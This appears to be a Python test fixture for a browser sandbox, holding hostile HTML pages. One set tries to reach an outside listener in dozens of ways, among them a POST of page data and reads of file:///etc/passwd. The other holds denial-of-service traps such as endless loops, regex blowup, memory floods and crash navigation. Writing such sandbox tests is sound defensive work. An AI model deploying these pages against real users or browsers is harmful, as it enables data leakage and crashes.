"""Pages that mean harm. `{net}` is the address of a listener that must hear nothing.

NETWORK: ways out of the browser. TRAPS: pages that try to hold up, fill up or break what drives them; each with the errors that
the run on it may end with (none: it must end well).
"""
# ruff: noqa: E501 - a page is one string

CLICK = "<body style='margin:0'><button style='width:100vw;height:100vh' {}>x</button>"


def script(code: str) -> str:
    return f"<!doctype html><body>page<script>{code}</script>"


def worker(code: str) -> str:
    return script(
        f"new Worker(URL.createObjectURL(new Blob([{code!r}], {{type: 'text/javascript'}})))"
    )


NETWORK = {
    "img": "<img src='http://{net}/x.png'>",
    "img srcset": "<img srcset='http://{net}/x.png 1x'>",
    "script": "<script src='http://{net}/x.js'></script>",
    "module": "<script type=module>import 'http://{net}/x.js'</script>",
    "dynamic import": script("import('http://{net}/x.js')"),
    "stylesheet": "<link rel=stylesheet href='http://{net}/x.css'>",
    "css import": "<style>@import 'http://{net}/x.css';</style>",
    "css image": "<body style='background:url(http://{net}/x.png)'>page",
    "cursor": "<body style='cursor:url(http://{net}/x.cur),auto'>page",
    "font": "<style>@font-face{font-family:x;src:url(http://{net}/x.woff)}body{font-family:x}</style><body>page",
    "icon": "<link rel=icon href='http://{net}/x.ico'>",
    "manifest": "<link rel=manifest href='http://{net}/x.json'>",
    "fetch": script("fetch('http://{net}/x')"),
    "fetch post": script(
        "fetch('http://{net}/x', {method: 'POST', mode: 'no-cors', body: document.title})"
    ),
    "fetch keepalive": script(
        "addEventListener('pagehide', () => fetch('http://{net}/x', {keepalive: true}));location.reload"
    ),
    "https": script("fetch('https://{net}/x').catch(() => 0)"),
    "xhr": script("const x = new XMLHttpRequest(); x.open('GET', 'http://{net}/x'); x.send()"),
    "sync xhr": script(
        "try { const x = new XMLHttpRequest(); x.open('GET', 'http://{net}/x', false); x.send() } catch {}"
    ),
    "beacon": script("navigator.sendBeacon('http://{net}/x', 'data')"),
    "websocket": script("new WebSocket('ws://{net}/x')"),
    "event source": script("new EventSource('http://{net}/x')"),
    "web transport": script("new WebTransport('https://{net}/x').ready.catch(() => 0)"),
    "webrtc": script(
        "const p = new RTCPeerConnection({iceServers: [{urls: ['stun:{net}', 'turn:{net}?transport=tcp'], username: 'a', credential: 'b'}]});"
        "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"
    ),
    "iframe": "<iframe src='http://{net}/x'></iframe>",
    "iframe in srcdoc": "<iframe srcdoc=\"<img src='http://{net}/x'>\"></iframe>",
    "iframe in data": "<iframe src=\"data:text/html,<img src='http://{net}/x'><script>fetch('http://{net}/y')</script>\"></iframe>",
    "iframe error page": "<iframe id=f src='http://{net}/x'></iframe>"
    + script("setTimeout(() => f.src = 'http://{net}/y', 100)"),
    "object": "<object data='http://{net}/x'></object>",
    "embed": "<embed src='http://{net}/x'>",
    "video": "<video autoplay muted src='http://{net}/x.mp4' poster='http://{net}/x.png'></video>",
    "audio": "<audio autoplay src='http://{net}/x.mp3'></audio>",
    "svg use": "<svg><use href='http://{net}/x.svg#a'/><image href='http://{net}/x.png'/></svg>",
    "prefetch": "<link rel=prefetch href='http://{net}/x'><link rel=modulepreload href='http://{net}/y'><link rel=preload as=image href='http://{net}/z'>",
    "preconnect": "<link rel=preconnect href='http://{net}'><link rel=dns-prefetch href='//{net}'>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["http://{net}/x"],"eagerness":"immediate"}],'
    '"prerender":[{"urls":["http://{net}/y"],"eagerness":"immediate"}]}</script>',
    "meta refresh": "<meta http-equiv=refresh content='0;url=http://{net}/x'>page",
    "location": script("location.href = 'http://{net}/x'"),
    "form": "<form id=f method=post action='http://{net}/x'><input name=a value=b></form>"
    + script("f.submit()"),
    "popup": CLICK.format("onclick=\"window.open('http://{net}/x')\""),
    "popup link": CLICK.format(
        "onclick=\"Object.assign(document.createElement('a'),{href:'http://{net}/x',target:'_blank'}).click()\""
    ),
    "popup from frame": CLICK.format("onclick=\"f.contentWindow.open('http://{net}/x')\"")
    + "<iframe id=f></iframe>",
    "popup form": "<form id=f target=_blank action='http://{net}/x'></form>"
    + CLICK.format("onclick='f.submit()'"),
    "ping": CLICK.format(
        "onclick=\"Object.assign(document.createElement('a'),{href:'#',ping:'http://{net}/x'}).click()\""
    ),
    "download": CLICK.format(
        "onclick=\"Object.assign(document.createElement('a'),{href:'http://{net}/x',download:'x'}).click()\""
    ),
    "worker fetch": worker("fetch('http://{net}/x')"),
    "worker socket": worker("new WebSocket('ws://{net}/x')"),
    "worker import": worker("importScripts('http://{net}/x.js')"),
    "worker beacon": worker(
        "setInterval(() => fetch('http://{net}/x', {mode: 'no-cors', keepalive: true}), 50)"
    ),
    "shared worker": script(
        "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('http://{net}/x')\"])))"
    ),
    "service worker": script("navigator.serviceWorker?.register('/sw.js').catch(() => 0)"),
    "file": "<iframe src='file:///etc/passwd'></iframe>"
    + script("fetch('file:///etc/passwd').catch(() => 0); location = 'file:///etc/passwd'"),
}

_FILL = "const keep = []; const more = () => { for (let i = 0; i < 20; i++) keep.push(%s); setTimeout(more, 1) }; more()"
ERROR = ("PageError",)
EITHER = (
    "ok",
    "PageError",
)  # a matter of timing: the trap springs before the work on its page is done, or it does not

TRAPS: dict[str, tuple[str, tuple[str, ...]]] = {
    # endless work
    "loop on load": (script("while (true);"), ERROR),
    "loop in timer": (script("setTimeout(() => { while (true); }, 100)"), ERROR),
    "loop in frame": (script("requestAnimationFrame(() => { while (true); })"), ERROR),
    "loop on click": (CLICK.format("onclick='while (true);'"), ERROR),
    "loop on mouse move": (CLICK.format("onmousemove='while (true);'"), ERROR),
    "loop of promises": (
        script("const f = () => Promise.resolve().then(f); setTimeout(f, 50)"),
        ERROR,
    ),
    "loop in wasm": (
        script(
            "const m = new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,7,5,1,1,97,0,0,10,9,1,7,0,3,64,12,0,11,11]);"
            "setTimeout(() => new WebAssembly.Instance(new WebAssembly.Module(m)).exports.a(), 10)"
        ),
        ERROR,
    ),
    "busy workers": (
        script(
            "for (let i = 0; i < 4; i++) new Worker(URL.createObjectURL(new Blob(['while (true);'])))"
        ),
        (),
    ),
    "regular expression": (
        script("setTimeout(() => /^(a+)+$/.test('a'.repeat(60) + 'b'), 10)"),
        ERROR,
    ),
    "ping pong": (
        script(
            "const c = new MessageChannel(); c.port1.onmessage = () => c.port2.postMessage(0); c.port2.postMessage(0);"
        ),
        (),
    ),
    "timers without end": (
        script("const f = () => { setTimeout(f, 0); setTimeout(() => 0, 1) }; f()"),
        (),
    ),
    "timer bomb": (script("const f = () => { setTimeout(f, 1); setTimeout(f, 1) }; f()"), EITHER),
    "waits for the clock": (
        script(
            "const t = Date.now(); while (Date.now() - t < 3000); document.body.append(' done')"
        ),
        (),
    ),
    "never still": (
        script(
            "new Worker(URL.createObjectURL(new Blob(['setInterval(() => postMessage(0), 5)']))).onmessage = () => document.body.append('x')"
        ),
        (),
    ),
    "layout loop": (
        script(
            "new ResizeObserver(() => document.body.style.width = Math.random() * 900 + 'px').observe(document.body)"
        ),
        (),
    ),
    "endless document": (script("document.write('<p>a'); for (;;) document.write('<p>a')"), ERROR),
    # floods
    "alerts": (script("while (true) alert(1)"), ERROR),
    "alerts in timer": (script("setInterval(() => { alert(1); confirm(2); prompt(3) }, 1)"), ERROR),
    "leaving question": (
        script("onbeforeunload = (e) => { e.preventDefault(); return 'stay' }"),
        (),
    ),
    "history": (script("for (let i = 0; i < 1e6; i++) history.pushState(i, '', '#' + i)"), ()),
    "hashes": (script("for (let i = 0; i < 1e5; i++) location.hash = i"), ()),
    "console": (script("for (let i = 0; i < 2e6; i++) console.log('x'.repeat(1000))"), ()),
    "worker console": (worker("for (;;) console.log('x'.repeat(1000))"), ("PageError",)),
    "huge errors": (script("setInterval(() => { throw new Error('x'.repeat(5e7)) }, 10)"), EITHER),
    "titles": (script("for (let i = 0; i < 1e6; i++) document.title = i"), EITHER),
    "fetches": (
        script("for (let i = 0; i < 20000; i++) fetch('/assets/' + i).catch(() => 0)"),
        ("PageError",),
    ),
    "sockets": (
        script("for (let i = 0; i < 2000; i++) new WebSocket('wss://task.local/' + i)"),
        EITHER,
    ),
    "frames": (
        script(
            "for (let i = 0; i < 300; i++) document.body.append(document.createElement('iframe'))"
        ),
        EITHER,
    ),
    "frames in frames": (
        script(
            "const f = () => { const i = document.createElement('iframe'); i.src = '/'; document.body.append(i) }; f(); f()"
        ),
        EITHER,
    ),
    "popups": (
        CLICK.format(
            "onclick=\"for (let i = 0; i < 100; i++) Object.assign(document.createElement('a'),{href:'/?'+i,target:'_blank'}).click()\""
        ),
        (),
    ),
    "downloads": (
        CLICK.format(
            "onclick=\"for (let i = 0; i < 100; i++) Object.assign(document.createElement('a'),{href:'data:,x',download:i+'.txt'}).click()\""
        ),
        (),
    ),
    "messages": (
        script("onmessage = () => { postMessage(0); postMessage(0) }; postMessage(0)"),
        ("PageError",),
    ),
    "storage": (
        script("try { for (let i = 0; ; i++) localStorage[i] = 'x'.repeat(1e5) } catch {}"),
        (),
    ),
    # memory
    "array": (script(_FILL % "new Array(1e5).fill(Math.random())"), ERROR),
    "array buffers": (script(_FILL % "new Uint8Array(5e6).fill(1)"), ERROR),
    "string": (
        script("let s = 'x'; const f = () => { s += s + Math.random(); setTimeout(f, 1) }; f()"),
        (),
    ),
    "elements": (
        script(
            "const f = () => { for (let i = 0; i < 5e4; i++) document.body.append(document.createElement('p')); setTimeout(f, 1) }; f()"
        ),
        ERROR,
    ),
    "deep tree": (
        script(
            "let e = document.body; for (let i = 0; i < 1e5; i++) e = e.appendChild(document.createElement('div'))"
        ),
        ("PageError",),
    ),
    "text node": (script("document.body.append('x y '.repeat(2.5e7))"), ("PageError",)),
    "canvases": (
        script(
            "const f = () => { const c = document.createElement('canvas'); c.width = c.height = 4000; c.getContext('2d').fillRect(0, 0, 4000, 4000);"
            "document.body.append(c); setTimeout(f, 1) }; f()"
        ),
        ("PageError",),
    ),
    "blobs": (script(_FILL % "new Blob([new Uint8Array(5e6)])"), ("PageError",)),
    # going away
    "closes": (script("close()"), EITHER),
    "closes on click": (CLICK.format("onclick='window.close()'"), EITHER),
    "reloads": (script("location.reload()"), ("PageError",)),
    "goes to nothing": (script("location = 'about:blank'"), EITHER),
    "goes to a crash": (script("location = 'chrome://crash'; location = 'chrome://kill'"), ()),
    "goes to data": (script("location = 'data:text/html,x'"), ()),
    "goes back": (script("history.back(); history.go(-5)"), ()),
    # playing with what drives it
    "no builtins": (
        script(
            "Promise = JSON = Map = Set = Object = null; Array.prototype.push = Array.prototype.map = () => { throw 1 }; Symbol.for = () => 0"
        ),
        ("PageError",),
    ),
    "no frames": (
        script(
            "requestAnimationFrame = setTimeout = queueMicrotask = MutationObserver = undefined"
        ),
        (),
    ),
    "lying getters": (script("Object.prototype.then = function (f) { while (true); }"), ERROR),
    "debugger": (script("setInterval(() => { debugger }, 10)"), ()),
    "print": (script("setInterval(() => print(), 10)"), ()),
    "full screen": (
        CLICK.format(
            "onclick='document.documentElement.requestFullscreen(); document.documentElement.requestPointerLock()'"
        ),
        (),
    ),
}

# cost many seconds and differ little from a trap that stays: with --full
VARIANTS = {
    "loop in timer",
    "loop in frame",
    "loop on mouse move",
    "loop of promises",
    "regular expression",
    "alerts in timer",
    "worker console",
    "lying getters",
    "elements",
    "sockets",
    "titles",
    "timer bomb",
}
